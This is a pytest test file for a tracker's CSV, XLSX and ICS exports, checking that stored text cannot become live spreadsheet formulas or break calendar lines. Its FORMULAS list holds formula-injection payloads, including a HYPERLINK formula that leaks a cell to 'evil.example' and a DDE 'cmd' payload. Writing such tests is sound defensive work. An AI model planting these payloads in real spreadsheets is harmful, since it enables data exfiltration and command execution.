"""Every file the tracker writes (CSV, XLSX, ICS; web, CLI, calendar feeds) stays safe whatever
text is stored: no live spreadsheet formula, no refused workbook, no broken calendar line."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime

import pytest
from flask.testing import FlaskClient, FlaskCliRunner
from icalendar import Calendar
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from tests.web_helpers import add_account
from tracker import reports, services
from tracker.models import Citation, Milestone, State, User

AS_OF = "2016-03-01"
QUERY = f"as_of={AS_OF}&within=3660"

# What an outside probe typed, or what rows written before input was validated may hold.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]
CONTROLS = [
    "Round table\rDushanbe",  # a bare CR
    "Bell\x07 escape\x1b[31m vertical tab\x0b form feed\x0c end",
    "Line one\r\nline two\nline three",
]
LONG = "Национальный круглый стол по разработке добровольного НПД, Душанбе; " * 4
HOSTILE = [*FORMULAS, *CONTROLS, LONG]
UNPRINTABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(seeded: Session) -> Session:
    """The seeded data with hostile titles, venues, quotes and a State name, written straight
    to the database as rows from before validation would be."""
    report = _report(seeded)
    ids = [item.id for item in [*report.overdue, *report.upcoming]]
    for k, milestone_id in enumerate(ids):  # each hostile text is a title or a venue
        title, venue = HOSTILE[k % len(HOSTILE)], HOSTILE[(k + len(ids)) % len(HOSTILE)]
        seeded.execute(
            update(Milestone).where(Milestone.id == milestone_id).values(title=title, venue=venue)
        )
    seeded.execute(update(Citation).values(quote="=1+2\rquoted\x01"))
    seeded.execute(update(State).where(State.code == "KGZ").values(name="=Kyrgyz\rstan\x02"))
    seeded.commit()
    return seeded


def _report(session: Session) -> reports.Report:
    return reports.build_report(session, date.fromisoformat(AS_OF), 3660)


def _texts(items: list[reports.ReportItem]) -> set[str]:
    """The titles and venues of the items."""
    return {item.title for item in items} | {item.venue for item in items}


def _check_csv(text: str, session: Session) -> None:
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    report = _report(session)
    items = [*report.overdue, *report.upcoming]
    assert len(rows) == len(items) and _texts(items) == set(HOSTILE)
    for row, item in zip(rows, items, strict=True):
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_START), (name, cell)
            assert not UNPRINTABLE.search(cell), (name, cell)
        for name, text in (("title", item.title), ("venue", item.venue)):
            if text.startswith(FORMULA_START):  # neutralised the OWASP way, and nothing lost
                assert row[name] == "'" + text
            else:
                assert row[name] == UNPRINTABLE.sub("\ufffd", text)
        assert row["id"] == str(item.id)  # numbers stay numbers
        if item.days_overdue is not None:
            assert row["days_overdue"] == str(item.days_overdue)


def test_web_csv_never_starts_a_formula_and_stays_valid(
    client: FlaskClient, hostile: Session
) -> None:
    response = client.get(f"/report.csv?{QUERY}")
    assert response.status_code == 200
    _check_csv(response.get_data(as_text=True), hostile)


def test_cli_csv_never_starts_a_formula_and_stays_valid(
    runner: FlaskCliRunner, hostile: Session
) -> None:
    args = ["report", "--as-of", AS_OF, "--within", "3660", "--format", "csv"]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    _check_csv(result.stdout_bytes.decode("utf-8"), hostile)  # .output folds CRLF


def test_xlsx_writes_text_as_text_and_never_fails_on_a_control_character(
    client: FlaskClient, hostile: Session
) -> None:
    response = client.get(f"/report.xlsx?{QUERY}")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/sheet"):
            sheet_xml = archive.read(name)
            assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
    book = load_workbook(io.BytesIO(response.data))
    report = _report(hostile)
    items = [*report.overdue, *report.upcoming]
    rows = [*book["Overdue"].iter_rows(min_row=2), *book["Upcoming"].iter_rows(min_row=2)]
    assert len(rows) == len(items) and _texts(items) == set(HOSTILE)
    for row, item in zip(rows, items, strict=True):
        assert all(cell.data_type != "f" for cell in row)
        assert row[1].value == item.id and row[1].data_type == "n"  # numbers stay numbers
        for cell, text in ((row[2], item.title), (row[12], item.venue)):
            assert cell.data_type == "s"
            # (XML reads every line break back as LF)
            assert cell.value == re.sub("\r\n?", "\n", UNPRINTABLE.sub("\ufffd", text))
            if text.startswith(FORMULA_START):  # and Excel keeps it text when edited
                assert cell.quotePrefix


def _check_ics(body: bytes) -> Calendar:
    lines = body.split(b"\r\n")
    assert lines[-1] == b""  # ends with CRLF
    for line in lines:
        assert b"\r" not in line and b"\n" not in line  # no bare CR or LF ends a line early
        assert len(line) <= 75, line  # folded at 75 octets (RFC 5545 3.1)
        assert not UNPRINTABLE.search(line.decode("utf-8")), line
    return Calendar.from_ical(body)


def test_report_ics_escapes_and_folds_every_text(client: FlaskClient, hostile: Session) -> None:
    response = client.get(f"/report.ics?{QUERY}")
    assert response.status_code == 200
    calendar = _check_ics(response.data)
    shown = " ".join(
        f"{e['summary']} {e.get('location', '')}" for e in calendar.walk("VEVENT")
    )  # every hostile text arrives, with its line breaks, and only printable characters
    for text in HOSTILE:
        assert re.sub("\r\n?", "\n", UNPRINTABLE.sub("\ufffd", text)) in shown, text
    assert "=1+2\nquoted\ufffd" in str(calendar.walk("VEVENT")[0]["description"])


def test_cli_ics_escapes_and_folds_every_text(runner: FlaskCliRunner, hostile: Session) -> None:
    args = ["report", "--as-of", AS_OF, "--within", "3660", "--format", "ics"]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    _check_ics(result.stdout_bytes)


def test_calendar_feed_escapes_and_folds_every_text(client: FlaskClient, hostile: Session) -> None:
    add_account(hostile, "feed@example.org", "viewer")
    user = hostile.scalars(select(User).where(User.email == "feed@example.org")).one()
    _, secret = services.create_token(hostile, user, "calendar", "Outlook")
    hostile.commit()
    response = client.get(f"/states/KGZ/calendar.ics?token={secret}")
    assert response.status_code == 200
    calendar = _check_ics(response.data)
    assert str(calendar["x-wr-calname"]) == "NAP milestones: =Kyrgyz\nstan\ufffd"


def _as_csv(value: object) -> str:
    """A cell as openpyxl reads it back, written the way the CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, datetime):  # a date cell reads back as midnight
        return value.date().isoformat()
    return str(value)


def test_csv_and_xlsx_are_written_from_one_column_list(seeded: Session) -> None:
    """Same columns in the same order, and the same value in every cell of every row."""
    report = _report(seeded)
    assert report.overdue and report.upcoming
    rows = list(csv.reader(io.StringIO(reports.report_csv(report).lstrip("\ufeff"))))
    sheet = load_workbook(io.BytesIO(reports.report_xlsx(report))).active
    assert sheet is not None
    table = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0] == [column.field for column in reports.COLUMNS]
    assert table[0] == [column.heading for column in reports.COLUMNS]
    assert len(rows) == len(table) == 1 + len(report.overdue) + len(report.upcoming)
    for csv_row, xlsx_row in zip(rows[1:], table[1:], strict=True):
        assert csv_row == [_as_csv(value) for value in xlsx_row]
